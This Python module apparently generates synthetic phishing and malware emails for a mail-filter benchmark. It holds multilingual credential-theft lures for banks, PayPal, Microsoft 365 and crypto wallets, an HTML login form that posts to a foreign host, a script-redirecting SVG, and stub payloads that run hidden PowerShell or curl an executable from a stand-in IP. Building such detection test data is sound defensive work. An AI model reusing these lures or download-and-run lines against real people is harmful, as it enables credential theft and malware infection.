# ruff: noqa: RUF001 - text in many scripts: look-alike letters are the point, not a typo
"""Phishing and malware as they leave a compromised shared-hosting account in 2026."""

from __future__ import annotations

from bench.modern_mail_e.lures import lure, send_as, victim_address, victims
from bench.modern_mail_e.mime_out import Part
from bench.modern_mail_e.parts import Ctx, esc, file_part, image_part, layout, office, pdf, text_with_links, zipped
from bench.modern_mail_e.registry import family
from bench.modern_mail_e.submit import Draft, Route


def _simple(c: Ctx, subj: str, paras: list[str], btn: str, brand: str, forged: str, *, prefer: str = "any",
            html: bool = True, text: bool = True, footer: list[str] | None = None,
            files: list[Part] | None = None, name: str = "", many: bool = False) -> tuple[Draft, Route]:
    link = lure(c, brand)
    route, fname, faddr = send_as(c, name or brand, forged, prefer)
    if route.mode in ("mailbox", "webmail") and forged and c.rng.random() < 0.3:
        fname = forged  # a display name that is itself an address: the old trick on a stolen mailbox
    to = [("", victim_address(c) if c.rng.random() < 0.5 else c.rcpt.email)]
    bcc = victims(c, 5, 60) if many or c.rng.random() < 0.5 else []
    d = Draft(subj, fname, faddr, to, text_with_links(paras, (btn, link), footer) if text or not html else None,
              layout(c.rng, c.lang, paras, brand=brand, button=(btn, link), footer=footer) if html else None,
              lang=c.lang, files=files or [], bcc=bcc, mailer=c.rng.choice(("oldphpmailer", "php", "none", "outlook")))
    if bcc and c.rng.random() < 0.5:
        d.to_header = "undisclosed-recipients:;"
        d.to = []
        d.bcc = [to[0][1], *bcc]
    return d, route


T_EXPIRE = {
    "en": ("Password expiry notice for {rcpt}", ["Your mailbox password expires today.", "To keep using the same "
           "password and avoid losing incoming mail, confirm it below within 24 hours."], "Keep current password"),
    "de": ("Ihr Kennwort läuft heute ab", ["Das Kennwort für {rcpt} läuft heute ab.", "Bestätigen Sie Ihr aktuelles "
           "Kennwort, um weiterhin E-Mails zu empfangen."], "Kennwort beibehalten"),
    "fr": ("Expiration de votre mot de passe", ["Le mot de passe de {rcpt} expire aujourd'hui.", "Validez-le pour "
           "éviter la suspension de votre messagerie."], "Conserver le mot de passe"),
    "es": ("Su contraseña caduca hoy", ["La contraseña de {rcpt} caduca hoy.", "Confírmela para seguir recibiendo "
           "correos."], "Mantener contraseña"),
}


@family("phish_password_expiry", "spam", "phishing", "*", "en de fr es", 8)
def phish_password_expiry(c: Ctx) -> tuple[Draft, Route, str]:
    subj, paras, btn = c.pick(T_EXPIRE)  # type: ignore[misc]
    paras = [p.format(rcpt=c.rcpt.email) for p in paras]
    d, r = _simple(c, subj.format(rcpt=c.rcpt.email), paras, btn, "Microsoft 365",
                   f"no-reply@{c.rcpt.email.split('@')[1]}", name="IT Service Desk")
    return d, r, "Microsoft 365 style password expiry lure"


T_QUOTA = {
    "en": ("Mailbox full: 5 incoming messages on hold", ["Your mailbox has reached 99% of its storage quota.",
           "5 incoming messages are pending delivery. Upgrade your quota now to release them."], "Release messages"),
    "pt": ("Caixa de correio cheia", ["A sua caixa de correio atingiu 99% da quota.", "Existem 7 mensagens "
           "retidas. Aumente a quota para as receber."], "Libertar mensagens"),
    "it": ("Casella di posta piena", ["La tua casella ha raggiunto il 98% dello spazio.", "Alcuni messaggi in "
           "arrivo sono stati sospesi."], "Sblocca i messaggi"),
}


@family("phish_webmail_quota", "spam", "phishing", "*", "en pt it", 7)
def phish_webmail_quota(c: Ctx) -> tuple[Draft, Route, str]:
    subj, paras, btn = c.pick(T_QUOTA)  # type: ignore[misc]
    dom = c.rcpt.email.split("@")[1]
    d, r = _simple(c, subj, paras, btn, "cPanel Webmail", f"mailer-daemon@{dom}", name=f"{dom} Webmail",
                   footer=[f"© 2026 {dom} mail server"])
    return d, r, "webmail quota lure in cPanel colours"


T_SHARE = {
    "en": ("{who} shared \"{doc}\" with you", ["{who} has shared a file with you via OneDrive.", "{doc}",
           "This link will work for anyone with access to {rcpt}."], "Open"),
    "de": ("{who} hat \"{doc}\" für Sie freigegeben", ["{who} hat eine Datei für Sie freigegeben.", "{doc}"],
           "Öffnen"),
    "nl": ("{who} heeft \"{doc}\" met u gedeeld", ["{who} heeft een bestand met u gedeeld.", "{doc}"], "Openen"),
}
DOCS = ("Q4 Payment Remittance.pdf", "Signed contract - final.pdf", "Payroll adjustments Dec.xlsx",
        "RFQ-2026-1187.pdf", "Overdue statement.pdf", "Angebot_2026_12.pdf")


@family("phish_shared_file", "spam", "phishing", "*", "en de nl", 8)
def phish_shared_file(c: Ctx) -> tuple[Draft, Route, str]:
    subj, paras, btn = c.pick(T_SHARE)  # type: ignore[misc]
    who = c.who(0)[0]
    doc = c.rng.choice(DOCS)
    kw = {"who": who, "doc": doc, "rcpt": c.rcpt.email}
    d, r = _simple(c, subj.format(**kw), [p.format(**kw) for p in paras], btn, "SharePoint", "", prefer="mailbox",
                   name=f"{who} (via OneDrive)")
    return d, r, "file-share notification sent from a real stolen mailbox"


T_PAYPAL = {
    "en": ("Your account access has been limited", ["We noticed unusual activity and have temporarily limited "
           "your account.", "Please confirm your information within 48 hours to restore full access."],
           "Resolve now"),
    "de": ("Ihr Konto wurde vorübergehend eingeschränkt", ["Wir haben ungewöhnliche Aktivitäten festgestellt.",
           "Bitte bestätigen Sie Ihre Daten innerhalb von 48 Stunden."], "Jetzt bestätigen"),
    "fr": ("Action requise sur votre compte", ["Nous avons détecté une connexion inhabituelle.", "Confirmez vos "
           "informations pour lever la limitation."], "Confirmer"),
}


@family("phish_payment_account", "spam", "phishing", "*", "en de fr", 7)
def phish_payment_account(c: Ctx) -> tuple[Draft, Route, str]:
    subj, paras, btn = c.pick(T_PAYPAL)  # type: ignore[misc]
    d, r = _simple(c, subj, paras, btn, "PayPal", "service@paypal-resolution.example", prefer="script",
                   footer=["PayPal Europe S.à r.l. et Cie, S.C.A."])
    return d, r, "payment account limited lure"


T_BANK = {
    "de": ("Wichtig: Aktualisierung Ihres pushTAN-Verfahrens", ["Sehr geehrte Kundin, sehr geehrter Kunde,",
           "ab dem 15.12. ist die Nutzung des Online-Bankings nur noch mit dem neuen Sicherheitsverfahren möglich. "
           "Bitte führen Sie die Aktualisierung rechtzeitig durch, sonst wird Ihr Zugang gesperrt."],
           "Aktualisierung starten", "Sparkasse"),
    "it": ("Avviso: carta temporaneamente bloccata", ["Gentile cliente,", "per motivi di sicurezza la sua carta è "
           "stata bloccata. Per riattivarla confermi i suoi dati."], "Riattiva la carta", "Intesa"),
    "es": ("Su tarjeta ha sido suspendida", ["Estimado cliente:", "Hemos detectado un cargo sospechoso de 749,00 € "
           "en su tarjeta. Si no lo reconoce, cancélelo aquí."], "Cancelar cargo", "BBVA"),
    "ru": ("Ваша карта заблокирована", ["Уважаемый клиент!", "Из-за подозрительной операции ваша карта временно "
           "заблокирована. Подтвердите личность, чтобы снять ограничение."], "Разблокировать", "Сбербанк"),
}


@family("phish_bank", "spam", "phishing", "*", "de it es ru", 8)
def phish_bank(c: Ctx) -> tuple[Draft, Route, str]:
    subj, paras, btn, brand = c.pick(T_BANK)  # type: ignore[misc]
    dom = {"Сбербанк": "sber-bank", "Intesa": "intesa-sp", "BBVA": "bbva-clientes"}.get(brand, brand.lower())
    d, r = _simple(c, subj, paras, btn, brand, f"service@{dom}-online.example", prefer="script")
    return d, r, "bank card or TAN lure in the bank's language"


T_PARCEL = {
    "de": ("Ihr Paket konnte nicht zugestellt werden", ["Wir konnten Ihr Paket {t} nicht zustellen, da Zollgebühren "
           "von 1,99 € ausstehen.", "Bitte begleichen Sie den Betrag innerhalb von 48 Stunden."], "Gebühr bezahlen",
           "DHL"),
    "fr": ("Colissimo : votre colis est en attente", ["Votre colis {t} est retenu : frais de réexpédition de "
           "2,49 €."], "Payer les frais", "Colissimo"),
    "es": ("Correos: envío retenido en aduanas", ["Su envío {t} está retenido. Abone 1,79 € de tasas."], "Pagar",
           "Correos"),
    "en": ("USPS: delivery attempt failed", ["We attempted to deliver your package {t} but the address was "
           "incomplete.", "Update your address and pay a $0.30 redelivery fee."], "Update address", "USPS"),
    "ko": ("[CJ대한통운] 배송 주소 불일치 안내", ["고객님의 택배 {t}가 주소 불일치로 보관 중입니다.",
           "아래 링크에서 주소를 수정해 주세요."], "주소 수정", "CJ"),
}


@family("phish_parcel_fee", "spam", "phishing", "*", "de fr es en ko", 8)
def phish_parcel_fee(c: Ctx) -> tuple[Draft, Route, str]:
    subj, paras, btn, brand = c.pick(T_PARCEL)  # type: ignore[misc]
    t = f"{c.token(2).upper()}{c.num(100000000, 999999999)}"
    d, r = _simple(c, subj, [p.format(t=t) for p in paras], btn, brand, f"noreply@{brand.lower()}-track.example",
                   html=c.rng.random() < 0.5, many=True)
    return d, r, "small customs or redelivery fee lure"


T_STREAM = {
    "en": ("Your membership is on hold", ["We're having trouble with your current billing information.",
           "Update your payment details to keep watching."], "Update payment"),
    "es": ("Tu membresía está en pausa", ["No pudimos procesar tu último pago.", "Actualiza tus datos de pago."],
           "Actualizar"),
    "pt": ("A sua assinatura foi suspensa", ["Não foi possível processar o pagamento.", "Atualize os dados."],
           "Atualizar"),
}


@family("phish_streaming", "spam", "phishing", "*", "en es pt", 7)
def phish_streaming(c: Ctx) -> tuple[Draft, Route, str]:
    subj, paras, btn = c.pick(T_STREAM)  # type: ignore[misc]
    d, r = _simple(c, subj, paras, btn, "Netflix", "info@mailer-netflix.example", prefer="script", text=False)
    return d, r, "streaming payment failed lure, HTML only"


T_CLOUD = {
    "en": ("Your iCloud storage is full - photos will be deleted", ["Your storage is full. On {day} your photos "
           "and videos will be permanently deleted.", "As a loyal customer you get 50 GB free for one year."],
           "Get 50 GB free"),
    "ja": ("【Apple】iCloudストレージの容量不足のお知らせ",
           ["ストレージが満杯です。{day}に写真とビデオが削除されます。",
           "今なら50GBを1年間無料でご利用いただけます。"], "今すぐ受け取る"),
}


@family("phish_cloud_storage", "spam", "phishing", "*", "en ja", 7)
def phish_cloud_storage(c: Ctx) -> tuple[Draft, Route, str]:
    subj, paras, btn = c.pick(T_CLOUD)  # type: ignore[misc]
    d, r = _simple(c, subj, [p.format(day=c.day()) for p in paras], btn, "iCloud", "noreply@icloud-storage.example",
                   many=True)
    return d, r, "cloud storage full lure"


T_TAX = {
    "en": ("You are eligible for a tax refund of £{amt}", ["After the last annual calculation of your fiscal "
           "activity we have determined that you are eligible to receive a tax refund.", "Submit your claim within "
           "5 working days."], "Claim refund", "HMRC"),
    "de": ("Steuererstattung: {amt} EUR", ["Nach Prüfung Ihrer Steuererklärung steht Ihnen eine Erstattung zu.",
           "Bitte bestätigen Sie Ihre Bankverbindung über ELSTER."], "Erstattung anfordern", "ELSTER"),
    "fr": ("Remboursement d'impôt : {amt} €", ["Vous êtes éligible à un remboursement de {amt} €.", "Complétez le "
           "formulaire avant le {day}."], "Recevoir mon remboursement", "impots.gouv"),
}


@family("phish_tax_refund", "spam", "phishing", "*", "en de fr", 7)
def phish_tax_refund(c: Ctx) -> tuple[Draft, Route, str]:
    subj, paras, btn, brand = c.pick(T_TAX)  # type: ignore[misc]
    kw = {"amt": f"{c.rng.randint(180, 900)}.{c.rng.randint(10, 99)}", "day": c.day()}
    d, r = _simple(c, subj.format(**kw), [p.format(**kw) for p in paras], btn, brand,
                   f"refunds@{brand.lower().replace('.', '-')}-gov.example")
    return d, r, "government tax refund lure"


@family("phish_wallet", "spam", "phishing", "*", "en", 6)
def phish_wallet(c: Ctx) -> tuple[Draft, Route, str]:
    brand = c.rng.choice(("MetaMask", "Ledger", "Trust Wallet", "Coinbase"))
    paras = [f"Due to a mandatory security upgrade, all {brand} wallets must be re-verified before {c.day()}.",
             "Unverified wallets will be restricted. Verification takes less than 2 minutes and requires your "
             "Secret Recovery Phrase."]
    d, r = _simple(c, f"{brand}: Mandatory wallet verification", paras, "Verify wallet", brand,
                   f"support@{brand.lower().replace(' ', '')}-verify.example", prefer="script")
    return d, r, "crypto wallet recovery phrase lure"


def _login_page(c: Ctx, brand: str, action: str) -> str:
    return (f'<html><head><title>{brand} - Sign in</title></head><body onload="document.getElementById(\'p\').focus()">'
            f'<form method="POST" action="{esc(action)}"><h2>{brand}</h2><p>Session expired. Sign in to view the '
            f'document.</p><input name="email" value="{esc(c.rcpt.email)}"><input id="p" type="password" '
            f'name="password"><button>Sign in</button></form></body></html>')


@family("phish_html_attachment", "spam", "phishing", "*", "en de", 8)
def phish_html_attachment(c: Ctx) -> tuple[Draft, Route, str]:
    action = f"https://{c.token(8).lower()}.workers.dev.example/submit.php"
    page = _login_page(c, c.rng.choice(("Microsoft", "Adobe Document Cloud", "DocuSign")), action)
    name = c.rng.choice(("Remittance_Advice", "Payment_Confirmation", "Zahlungsavis", "INV_Scan", "Swift_Copy"))
    text = c.pick({"en": f"Hello,\n\nPlease find attached the remittance advice for your invoice.\n\nRegards,\n"
                         f"{c.who(0)[0]}", "de": "Guten Tag,\n\nanbei das Zahlungsavis zu Ihrer Rechnung.\n\nMfG"})
    route, fname, faddr = send_as(c, "", "", "mailbox")
    d = Draft(c.pick({"en": f"Remittance advice {c.num()}", "de": f"Zahlungsavis {c.num()}"}),  # type: ignore[arg-type]
              fname, faddr, [("", victim_address(c))], str(text), lang=c.lang, mailer="outlook",
              files=[Part("text/html", page, "utf-8", "base64", f"{name}_{c.num(100, 999)}.html")],
              bcc=victims(c, 3, 30))
    return d, route, "HTML attachment holding a login form posting to a foreign host"


@family("phish_svg_attachment", "spam", "phishing", "*", "en", 6)
def phish_svg_attachment(c: Ctx) -> tuple[Draft, Route, str]:
    target = lure(c, "microsoft")
    svg = (f'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script><![CDATA[window.location.href='
           f'atob("{__import__("base64").b64encode(target.encode()).decode()}")+"#{c.rcpt.email}";]]></script></svg>')
    route, fname, faddr = send_as(c, "Voice Services", f"voicemail@{c.rcpt.email.split('@')[1]}")
    d = Draft(f"New voicemail from +1 {c.num(200, 999)}-{c.num(100, 999)}-{c.num(1000, 9999)} (00:{c.num(10, 59)})",
              fname, faddr, [("", c.rcpt.email)], "You have a new voice message. Play the attached file.", lang="en",
              files=[Part("image/svg+xml", svg, "utf-8", "base64", f"VM_{c.num()}.svg")], mailer="none")
    return d, route, "voicemail lure with an SVG that redirects by script"


@family("phish_qr_image", "spam", "phishing", "*", "en de", 8)
def phish_qr_image(c: Ctx) -> tuple[Draft, Route, str]:
    cid = f"{c.token(10)}@{c.acct.main_domain}"
    dom = c.rcpt.email.split("@")[1]
    words = c.pick({"en": ("Multi-factor authentication re-enrolment required", "Scan the QR code with your phone "
                           "camera to keep access to your mailbox."),
                    "de": ("MFA-Neuregistrierung erforderlich", "Scannen Sie den QR-Code mit Ihrem Smartphone.")})
    subj, line = words  # type: ignore[misc]
    route, fname, faddr = send_as(c, "IT Security", f"security@{dom}")
    as_pdf = c.rng.random() < 0.4
    if as_pdf:
        d = Draft(f"{subj} - {dom}", fname, faddr, [("", c.rcpt.email)], "", lang=c.lang, mailer="none",
                  files=[file_part(f"MFA_{dom}.pdf", "application/pdf", pdf([subj, line], c.rng, lure(c, "mfa")))])
        d.text = f"{line}\n" if c.rng.random() < 0.5 else " "
    else:
        html = (f'<div style="text-align:center"><img src="cid:{cid}" width="240" height="240"><br>'
                f'<span style="font-size:1px;color:#fff">{esc(c.token(40))}</span></div>')
        d = Draft(f"{subj} - {dom}", fname, faddr, [("", c.rcpt.email)], None, html, lang=c.lang, mailer="none",
                  inline=[image_part(c.rng, "qr.png", cid, blocky=True, size=105)])
    return d, route, "QR-code lure: image only or inside a PDF, no clickable link"


@family("phish_japan_brand", "spam", "phishing", "*", "ja", 7)
def phish_japan_brand(c: Ctx) -> tuple[Draft, Route, str]:
    brand, subj, body = c.rng.choice((
        ("Amazon", "【重要】Amazonアカウントの支払い方法を更新してください",
         "お支払い方法に問題が発生しました。24時間以内に情報を更新しない場合、アカウントは停止されます。"),
        ("ETC", "ETC利用照会サービス：解約予告のお知らせ",
         "ETCサービスの有効期限が切れました。引き続きご利用いただくには情報の更新が必要です。"),
        ("楽天", "楽天カード：ご利用確認のお願い",
         "不正利用の可能性があるお取引を検知しました。ご本人確認をお願いします。"),
        ("三井住友", "【三井住友カード】カードのご利用を一時停止しました", "第三者による不正利用の可能性があるため、"
         "カードのご利用を制限しております。")))
    paras = [f"{c.rcpt.name} 様", body, "※本メールは送信専用です。"]
    d, r = _simple(c, subj, paras, "ログインして確認", brand, f"info@{c.token(6).lower()}-jp.example",
                   prefer="script", many=True)
    d.charset = c.rng.choice(("iso-2022-jp", "shift_jis", "utf-8"))
    return d, r, "Japanese-language brand phishing"


@family("phish_zh_einvoice", "spam", "phishing", "*", "zh", 6)
def phish_zh_einvoice(c: Ctx) -> tuple[Draft, Route, str]:
    paras = [c.rng.choice(("您有一张电子发票待领取，请在3日内完成认证。",
                           "【税务通知】您的企业未完成年度个税申报补贴领取，请尽快登记。")), "逾期将无法领取。"]
    d, r = _simple(c, c.rng.choice(("电子发票领取通知", "关于2026年度个人所得税补贴的通知")), paras, "立即查看",
                   "税务局", f"notice@{c.token(5).lower()}.example", prefer="script")
    d.charset = c.rng.choice(("gb2312", "gbk", "utf-8", "gb18030"))
    return d, r, "Chinese tax subsidy / e-invoice phishing"


@family("malware_zip_script", "spam", "malware", "*", "en de it", 8)
def malware_zip_script(c: Ctx) -> tuple[Draft, Route, str]:
    base = c.rng.choice(("Invoice", "Rechnung", "Fattura", "Order_Confirmation", "Scan", "DHL_AWB"))
    inner = c.rng.choice((".js", ".vbs", ".wsf", ".hta", ".bat", ".lnk"))
    payload = (f"var s=new ActiveXObject('WScript.Shell');s.Run('powershell -w hidden -enc {c.token(60)}');"
               if inner in (".js", ".wsf", ".hta")
               else f"@echo off\ncurl -s http://198.51.100.{c.num(2, 250)}/{c.token(5)} -o %TEMP%\\a.exe\n")
    z = zipped({f"{base}_{c.num()}.pdf{inner}" if c.rng.random() < 0.5 else f"{base}{inner}": payload.encode()})
    text = c.pick({"en": f"Good day,\n\nAttached is the {base.lower()} for last month. Password: {c.num(100, 999)}\n"
                         "\nThank you", "de": "Hallo,\n\nanbei die Rechnung. Bitte prüfen.\n\nMfG",
                   "it": "Buongiorno,\n\nin allegato la fattura. Cordiali saluti"})
    route, fname, faddr = send_as(c, "", f"accounts@{c.token(6).lower()}.example")
    d = Draft(f"{base.replace('_', ' ')} {c.num()}", fname or "Accounts", faddr, [("", victim_address(c))],
              str(text), lang=c.lang, files=[file_part(f"{base}_{c.num(10, 99)}.zip", "application/zip", z)],
              mailer=c.rng.choice(("outlook", "none")), bcc=victims(c, 5, 40))
    return d, route, "ZIP with a script dressed as a document"


@family("malware_disk_image", "spam", "malware", "*", "en", 6)
def malware_disk_image(c: Ctx) -> tuple[Draft, Route, str]:
    ext, ctype = c.rng.choice(((".iso", "application/x-iso9660-image"), (".img", "application/octet-stream"),
                               (".vhd", "application/octet-stream"), (".msi", "application/x-msi")))
    data = b"\x00" * 1024 + b"CD001" + bytes(c.rng.randrange(256) for _ in range(2048))
    route, fname, faddr = send_as(c, "", f"purchasing@{c.token(6).lower()}.example")
    d = Draft(f"PO#{c.num()} - urgent shipment", fname or "Purchasing", faddr, [("", victim_address(c))],
              "Dear Sir/Madam,\n\nPlease see attached purchase order and confirm availability ASAP.\n\nBest regards",
              lang="en", files=[file_part(f"PO_{c.num()}{ext}", ctype, data)], mailer="outlook", bcc=victims(c, 2, 20))
    return d, route, "purchase-order lure with a disk image or installer"


@family("malware_macro_doc", "spam", "malware", "*", "en es pt", 7)
def malware_macro_doc(c: Ctx) -> tuple[Draft, Route, str]:
    kind = c.rng.choice(("docm", "xlsm"))
    text = c.pick({"en": "Hi,\n\nPlease review the attached statement and enable editing to see the figures.\n",
                   "es": "Hola,\n\nAdjunto el estado de cuenta. Habilite el contenido para verlo.\n",
                   "pt": "Olá,\n\nSegue em anexo o extrato. Ative o conteúdo para visualizar.\n"})
    route, fname, faddr = send_as(c, "", f"finance@{c.token(7).lower()}.example")
    ctype = "application/vnd.ms-word.document.macroEnabled.12" if kind == "docm" else \
        "application/vnd.ms-excel.sheet.macroEnabled.12"
    d = Draft(c.pick({"en": "Statement of account", "es": "Estado de cuenta", "pt": "Extrato de conta"}),  # type: ignore[arg-type]
              fname or "Finance", faddr, [("", victim_address(c))], str(text), lang=c.lang,
              files=[file_part(f"Statement_{c.num()}.{kind}", ctype, office(c.rng, "Enable content", "docm"))],
              mailer="outlook")
    return d, route, "macro-enabled Office document"


@family("malware_link_download", "spam", "malware", "*", "en fr pl", 7)
def malware_link_download(c: Ctx) -> tuple[Draft, Route, str]:
    site = c.rng.choice(("lakeside-bnb.example", "bobsbikes.example", c.acct.main_domain))
    link = f"https://{site}/wp-content/uploads/2026/11/{c.rng.choice(('Facture', 'Invoice', 'Faktura'))}_{c.num()}.zip"
    text = c.pick({"en": f"Hello,\n\nThe documents are too large to attach. Download here:\n{link}\n\nThanks",
                   "fr": f"Bonjour,\n\nVoici la facture en téléchargement :\n{link}\n\nCordialement",
                   "pl": f"Dzień dobry,\n\nfaktura do pobrania:\n{link}\n\nPozdrawiam"})
    route, fname, faddr = send_as(c, "", "", "mailbox")
    ref = f"<{c.token(18)}@{victim_address(c).split('@')[1]}>"
    d = Draft(c.pick({"en": "RE: documents", "fr": "RE: facture", "pl": "RE: faktura"}), fname, faddr,  # type: ignore[arg-type]
              [("", victim_address(c))], str(text), lang=c.lang, mailer="outlook",
              headers=[("In-Reply-To", ref), ("References", ref)])
    return d, route, "thread-hijack reply linking a payload on a hacked WordPress site"


@family("phish_domain_expiry", "spam", "phishing", "*", "en", 6)
def phish_domain_expiry(c: Ctx) -> tuple[Draft, Route, str]:
    dom = c.rcpt.email.split("@")[1]
    paras = [f"DOMAIN NAME: {dom}", f"Your domain {dom} expires on {c.day()}. Failure to renew will result in the "
             "loss of your website, email and online presence.", "Renewal fee: $86.00 for 1 year (SEO submission "
             "included)."]
    d, r = _simple(c, f"Final notice: {dom} domain expiration", paras, "Renew now", "Domain Services",
                   "billing@domain-registry-services.example", prefer="script", many=True)
    return d, r, "fake domain renewal / SEO submission notice"


@family("phish_calendar_invite", "spam", "phishing", "*", "en de", 6)
def phish_calendar_invite(c: Ctx) -> tuple[Draft, Route, str]:
    from datetime import datetime, timedelta

    from bench.modern_mail_e.parts import ics
    link = lure(c, "sharepoint")
    title = c.pick({"en": "Updated salary structure 2027 - please review", "de": "Gehaltsanpassung 2027 - Review"})
    route, fname, faddr = send_as(c, "HR Department", f"hr@{c.rcpt.email.split('@')[1]}")
    start = datetime(2026, 12, 10, 14) + timedelta(days=c.rng.randrange(10))
    cal = ics(c.rng, str(title), (fname, faddr), c.rcpt.email, start, 30, link)
    d = Draft(f"Invitation: {title}", fname, faddr, [("", c.rcpt.email)], f"{title}\n\nReview the document before the "
              f"meeting: {link}\n", lang=c.lang, mailer="none",
              files=[Part("text/calendar; method=REQUEST", cal, "utf-8", "7bit", "invite.ics")])
    return d, route, "calendar invitation whose location and body carry the phishing link"


@family("phish_page_appeal", "spam", "phishing", "*", "en es", 6)
def phish_page_appeal(c: Ctx) -> tuple[Draft, Route, str]:
    case = c.num(100000000, 999999999)
    words = c.pick({"en": (f"Your page has been scheduled for deletion (case #{case})", [
        "We have received a copyright infringement report about content on your Page.", "If you believe this is a "
        "mistake, you can submit an appeal within 24 hours. Otherwise your Page will be permanently disabled."],
        "Submit appeal"), "es": (f"Su página será eliminada (caso #{case})", [
            "Hemos recibido una denuncia por infracción de derechos de autor.", "Puede presentar una apelación en "
            "las próximas 24 horas."], "Apelar")})
    subj, paras, btn = words  # type: ignore[misc]
    d, r = _simple(c, subj, paras, btn, "Meta", f"case-{case}@{c.token(6).lower()}.example", name="Meta Support",
                   footer=["Meta Platforms, Inc., Attention: Community Support"])
    return d, r, "social-media page copyright appeal lure"


@family("phish_hotel_guest", "spam", "phishing", "*", "en it es", 6)
def phish_hotel_guest(c: Ctx) -> tuple[Draft, Route, str]:
    link = lure(c, "booking")
    text = c.pick({
        "en": f"Hello,\n\nA guest left a serious complaint about your property (cleanliness, reservation "
              f"{c.num(1000000, 9999999)}). Please review it and respond within 24 hours, or your listing may be "
              f"suspended:\n{link}\n\nPartner Support",
        "it": f"Buongiorno,\n\nun ospite ha lasciato un reclamo sulla vostra struttura. Rispondete entro 24 "
              f"ore:\n{link}\n\nAssistenza Partner",
        "es": f"Hola,\n\nun huésped ha dejado una queja sobre su alojamiento. Responda en 24 horas:\n{link}\n\n"
              "Soporte a Partners"})
    route, fname, faddr = send_as(c, "Booking Partner Help", f"noreply@partner-{c.token(5).lower()}.example")
    subj = c.pick({"en": "Guest complaint - action required", "it": "Reclamo ospite - azione richiesta",
                   "es": "Queja de huésped - acción requerida"})
    d = Draft(str(subj), fname, faddr,
              [("", f"reservations@{c.rng.choice(('hotel-alba', 'pension-mar', 'villa-rosa'))}.example")], str(text),
              lang=c.lang, mailer="none")
    return d, route, "fake travel-platform guest complaint aimed at hotels"


@family("phish_file_transfer", "spam", "phishing", "*", "en de fr", 7)
def phish_file_transfer(c: Ctx) -> tuple[Draft, Route, str]:
    files = c.rng.randint(2, 9)
    words = c.pick({"en": (f"{c.who(0)[0]} sent you {files} files", [f"{files} files, {c.num(2, 90)} MB in total",
                           "Expires in 2 days"], "Get your files"),
                    "de": (f"{c.who(0)[0]} hat Ihnen {files} Dateien gesendet", [f"{files} Dateien",
                           "Läuft in 2 Tagen ab"], "Dateien herunterladen"),
                    "fr": (f"{c.who(0)[0]} vous a envoyé {files} fichiers", [f"{files} fichiers",
                           "Expire dans 2 jours"], "Récupérer les fichiers")})
    subj, paras, btn = words  # type: ignore[misc]
    d, r = _simple(c, subj, paras, btn, "WeTransfer", "noreply@wetransfer-files.example", prefer="mailbox",
                   name="via WeTransfer")
    return d, r, "file-transfer notification leading to a credential page"
